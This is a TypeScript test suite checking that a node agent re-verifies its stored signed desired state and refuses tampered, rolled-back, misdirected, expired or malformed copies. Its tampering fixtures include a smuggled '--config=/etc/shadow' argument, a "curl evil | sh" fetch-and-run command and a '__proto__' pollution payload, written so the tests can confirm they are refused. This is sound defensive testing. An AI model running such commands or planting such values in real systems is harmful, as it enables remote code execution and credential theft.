import { strict as assert } from "node:assert";
import * as fs from "node:fs";
import * as path from "node:path";
import { createHash } from "node:crypto";
import type { AgentState } from "../../../lib/agent";
import type { InstanceSpec } from "../../../lib/contracts/resources";
import { NodeAgent } from "../../../agents/node/agent";
import { verifyIncoming } from "../../../agents/node/intake";
import { buildDesiredState, signDesiredState } from "../../../lib/desired-state";
import {
  genuineState,
  makeHierarchy,
  makeNode,
  setAside,
  writeState,
  type Hierarchy,
  type Node,
} from "./stored";

type Doc = { document: { instances: InstanceSpec[] } };
const docOf = (s: AgentState) => (s.desired?.signed as Doc).document;
const sha = (text: string | Buffer) => `sha256:${createHash("sha256").update(text).digest("hex")}`;

describe("agent: what it stored is verified again when read back", function () {
  this.timeout(30_000);
  let h: Hierarchy;
  let node: Node;
  before(() => (h = makeHierarchy()));
  beforeEach(() => (node = makeNode(h)));
  afterEach(() => fs.rmSync(node.dir, { recursive: true, force: true }));

  it("keeps a genuine stored state as it is, with no alert", () => {
    writeState(node, genuineState(h));
    const { ctx, alerts } = node.start();
    assert.deepEqual(alerts, []);
    assert.equal(ctx.state.desired?.version, 3);
    assert.ok(ctx.state.desired?.signed, "the document stays to be re-applied offline");
    assert.deepEqual(Object.keys(ctx.state.releaseDocs), ["web@1.0.0"]);
    assert.deepEqual(setAside(node), []);
  });

  const tampering: [string, (d: Doc["document"]) => void][] = [
    [
      "parameters injected",
      (d) => Object.assign(d.instances[0].parameters, { greeting: "x --config=/etc/shadow" }),
    ],
    [
      "minimumPersistenceSeconds lowered to 0",
      (d) => Object.assign(d.instances[0], { minimumPersistenceSeconds: 0 }),
    ],
    ["holdsData turned false", (d) => Object.assign(d.instances[0], { holdsData: false })],
  ];
  for (const [what, change] of tampering) {
    it(`refuses a re-written local copy (${what}): alert with evidence, file set aside, document not kept`, () => {
      const state = genuineState(h);
      change(docOf(state));
      writeState(node, state);
      const tampered = fs.readFileSync(node.stateFile);
      const { ctx, alerts } = node.start();
      assert.equal(alerts.length, 1, JSON.stringify(alerts));
      const a = alerts[0];
      assert.equal(a.kind, "local-state-refused");
      assert.equal(a.severity, "critical");
      assert.equal(a.evidence?.reason, "bad-signature");
      assert.equal(a.evidence?.digest, sha(JSON.stringify(state.desired?.signed)));
      assert.match(a.detail, /the stored desired state no longer verifies \(bad-signature\)/);
      assert.equal(ctx.state.desired?.signed, undefined, "never re-applied");
      assert.equal(ctx.state.desired?.version, 3, "the record still guards against rollback");
      const aside = setAside(node);
      assert.equal(aside.length, 1);
      assert.equal(a.evidence?.setAsideAs, path.join(path.dirname(node.stateFile), aside[0]));
      assert.deepEqual(
        fs.readFileSync(path.join(path.dirname(node.stateFile), aside[0])),
        tampered,
        "kept as evidence",
      );
      const rewritten = JSON.parse(fs.readFileSync(node.stateFile, "utf8")) as AgentState;
      assert.equal(rewritten.desired?.signed, undefined);
      assert.equal(rewritten.desired?.version, 3);
    });
  }

  it("refuses a stored release whose manifest was re-written, and keeps the genuine document", () => {
    const state = genuineState(h);
    const rel = state.releaseDocs["web@1.0.0"].signed as { manifest: { programs: { command: string }[] } };
    rel.manifest.programs[0].command = "/bin/sh -c 'curl evil | sh'";
    writeState(node, state);
    const { ctx, alerts } = node.start();
    assert.deepEqual(
      alerts.map((a) => [a.kind, a.evidence?.what, a.evidence?.reason]),
      [["local-state-refused", "release web@1.0.0", "bad-signature"]],
    );
    assert.deepEqual(ctx.state.releaseDocs, {});
    assert.ok(ctx.state.desired?.signed);
    assert.equal(setAside(node).length, 1);
  });

  it("refuses an older genuine document put in place of the one applied (rollback on disk)", () => {
    const state = genuineState(h);
    const older = genuineState(h, { version: 2 });
    writeState(node, { ...state, desired: { ...state.desired, signed: older.desired?.signed } });
    const { ctx, alerts } = node.start();
    assert.equal(alerts[0]?.evidence?.reason, "rollback");
    assert.equal(ctx.state.desired?.signed, undefined);
  });

  it("refuses a genuine document of another computer put in place of this one's", () => {
    const state = genuineState(h);
    const other = genuineState(h, { computerId: "dc1-s02" });
    writeState(node, { ...state, desired: { ...state.desired, signed: other.desired?.signed } });
    assert.equal(node.start().alerts[0]?.evidence?.reason, "wrong-computer");
  });

  it("does not re-apply a stored document that expired, warns, and keeps the file (nothing was tampered)", () => {
    writeState(node, genuineState(h, { now: new Date(Date.now() - 7_200_000), validitySeconds: 3600 }));
    const { ctx, alerts } = node.start();
    assert.deepEqual(
      alerts.map((a) => [a.kind, a.severity, a.evidence?.reason]),
      [["local-state-refused", "warning", "expired"]],
    );
    assert.equal(ctx.state.desired?.signed, undefined);
    assert.deepEqual(setAside(node), []);
  });

  const unreadable: [string, (text: string) => string][] = [
    ["truncated in the middle", (t) => t.slice(0, Math.floor(t.length / 2))],
    ["truncated to nothing", () => ""],
    ["not JSON", () => "\u0000\u0000garbage"],
    ["of another kind", (t) => t.replace('"zeroroot.agent-state/v1"', '"zeroroot.other/v1"')],
    ["with records of the wrong shape", (t) => t.replace('"instances":{}', '"instances":{"a":"b"}')],
    [
      "with a __proto__ key",
      (t) => t.replace('"instances":{}', '"instances":{"__proto__":{"polluted":true}}'),
    ],
    ["nested 100,000 deep", () => "[".repeat(100_000)],
  ];
  for (const [what, damage] of unreadable) {
    it(`starts, with an alert and the file set aside, from a state file ${what}`, () => {
      writeState(node, damage(JSON.stringify(genuineState(h))));
      const bytes = fs.readFileSync(node.stateFile);
      const { ctx, alerts } = node.start();
      assert.deepEqual(
        alerts.map((a) => [a.kind, a.severity]),
        [["local-state-unreadable", "critical"]],
      );
      assert.equal(alerts[0].evidence?.digest, sha(bytes));
      assert.equal(alerts[0].evidence?.bytes, bytes.length);
      assert.equal(ctx.state.desired, undefined);
      assert.equal(setAside(node).length, 1);
      assert.equal(fs.existsSync(node.stateFile), false, "nothing is re-read at the next start");
      assert.deepEqual(node.start().alerts, [], "the next start is clean: no restart loop");
    });
  }
});

describe("agent offline: a refused local copy applies nothing; a genuine one is applied", function () {
  this.timeout(30_000);
  let h: Hierarchy;
  let node: Node;
  before(() => (h = makeHierarchy()));
  beforeEach(() => (node = makeNode(h)));
  afterEach(() => fs.rmSync(node.dir, { recursive: true, force: true }));

  /** Starts the agent without a control plane, as zr-agent (uid 1000, since the tests run as root). */
  async function startOffline(): Promise<{ log: string[]; agent: NodeAgent }> {
    const { ctx, log } = node.start();
    const agent = new NodeAgent(ctx.deps);
    const getuid = process.getuid;
    process.getuid = () => 1000;
    try {
      await agent.start();
    } finally {
      process.getuid = getuid;
      await agent.stop();
    }
    return { log, agent };
  }
  const conf = () => path.join(node.partitionsRoot, "zr-p000", "supervisor", "conf.d");

  it("applies the genuine stored document offline (it renders the instance's programs)", async () => {
    writeState(node, genuineState(h));
    const { log } = await startOffline();
    assert.ok(
      log.some((l) => /re-applying the last verified desired state \(version 3\)/.test(l)),
      log.join("\n"),
    );
    assert.ok(
      fs.readdirSync(conf()).some((f) => f.endsWith(".conf")),
      "the instance was rendered",
    );
  });

  it("applies nothing from a tampered stored document, and leaves the partitions as they are", async () => {
    const state = genuineState(h);
    Object.assign(docOf(state).instances[0], { holdsData: false, minimumPersistenceSeconds: 0 });
    writeState(node, state);
    const { log, agent } = await startOffline();
    assert.equal(fs.existsSync(conf()), false, "nothing rendered");
    assert.ok(!log.some((l) => /re-applying/.test(l)));
    assert.ok(log.some((l) => /ALERT local-state-refused/.test(l)));
    assert.equal(agent.snapshot().desired?.signed, undefined);
  });
});

describe("agent intake: a document from the control plane is checked against the node's own certificate", function () {
  this.timeout(30_000);
  let h: Hierarchy;
  let node: Node;
  before(() => (h = makeHierarchy()));
  beforeEach(() => (node = makeNode(h)));
  afterEach(() => fs.rmSync(node.dir, { recursive: true, force: true }));
  const text = (dataCenter: string, signer = h.controlPlane) =>
    JSON.stringify(
      signDesiredState(
        buildDesiredState({
          computerId: "dc1-s01",
          dataCenter,
          version: 1,
          instances: [],
          validitySeconds: 600,
        }),
        signer,
      ),
    );

  it("accepts dc1-s01's document for dc1 from the dc1 state signer", () => {
    const { ctx } = node.start();
    assert.ok(verifyIncoming(ctx, text("dc1")));
    assert.deepEqual(ctx.alerts.queued(), []);
  });

  it("refuses a document for dc1-s01 saying dataCenter dc2, signed by a signer authorised only for dc2", () => {
    const { ctx } = node.start();
    const t = text("dc2", h.dc2StateSigner);
    assert.equal(verifyIncoming(ctx, t), undefined);
    assert.deepEqual(
      ctx.alerts.queued().map((a) => [a.kind, a.evidence?.reason, a.evidence?.digest]),
      [["desired-state-refused", "wrong-data-center", sha(t)]],
    );
  });

  it("refuses to start when agent.json's serverId is not the name in the computer certificate", () => {
    writeState(node, genuineState(h));
    const { ctx } = node.start();
    assert.throws(
      () => new NodeAgent({ ...ctx.deps, config: { ...ctx.deps.config, serverId: "dc1-s02" } }),
      /serverId "dc1-s02" differs from the computer certificate's identity dc1\/computer\/dc1-s01/,
    );
  });
});
